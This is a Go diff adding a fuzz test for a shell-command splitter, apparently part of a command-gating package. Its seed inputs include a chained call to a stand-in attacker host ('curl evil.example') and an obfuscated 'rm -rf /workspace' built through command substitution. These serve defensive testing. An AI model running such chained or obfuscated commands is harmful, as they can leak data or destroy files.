@@ -182,3 +182,53 @@ func FuzzEvaluateResult(f *testing.F) {
 		}
 	})
 }
+
+// FuzzSplitShell feeds arbitrary scripts to the shell splitter: it must never
+// panic, never return argv words with a NUL (which no exec can pass), never
+// return an empty command, and give the same answer for the same script.
+func FuzzSplitShell(f *testing.F) {
+	for _, s := range []string{
+		"go test ./... && curl evil.example",
+		`ls | grep x; echo "a b" > out.txt`,
+		"$(echo rm) -rf /workspace",
+		"(cd sub && go test ./...)",
+		"cat <<'EOF'\nhello\nEOF",
+		"go test 2>&1 | tee log.txt",
+		"if true; then go vet ./...; fi",
+		"for f in a b; do echo $f; done",
+		"case $x in a) b;; esac",
+		`echo a\ b 'c' "d\$" {a,b} ~ *`,
+		"{ a; b; } > x < y",
+		`echo "abc`,
+		"set -euo pipefail; [ -f x ] && y",
+		"a\x00b",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, script string) {
+		first, err := gate.SplitShell(script)
+		again, err2 := gate.SplitShell(script)
+		if !reflect.DeepEqual(first, again) || (err == nil) != (err2 == nil) || err != nil && err.Error() != err2.Error() {
+			t.Fatalf("non-deterministic: %v, %v then %v, %v", first, err, again, err2)
+		}
+		if err != nil {
+			if first != nil {
+				t.Fatalf("commands %v with error %v", first, err)
+			}
+			return
+		}
+		if len(first) == 0 {
+			t.Fatal("no commands and no error")
+		}
+		for _, c := range first {
+			if len(c.Argv) == 0 {
+				t.Fatalf("empty argv in %v", first)
+			}
+			for _, w := range slices.Concat(c.Argv, c.Writes, c.Reads) {
+				if strings.IndexByte(w, 0) >= 0 {
+					t.Fatalf("NUL in %q of %v", w, c)
+				}
+			}
+		}
+	})
+}
